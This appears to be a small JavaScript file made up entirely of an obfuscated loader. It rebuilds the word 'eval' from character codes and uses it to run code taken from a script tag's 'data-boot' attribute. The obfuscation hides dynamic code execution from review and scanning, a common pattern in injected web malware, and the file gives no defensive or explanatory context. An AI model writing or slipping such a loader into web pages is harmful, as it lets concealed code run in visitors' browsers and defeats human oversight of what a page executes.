(function () {
  const root = (function () { return this; })();
  const key = [0x65, 0x76, 0x61, 0x6c].map((n) => String.fromCodePoint(n)).join('');
  root[key](unescape(document.currentScript.dataset.boot));
})();
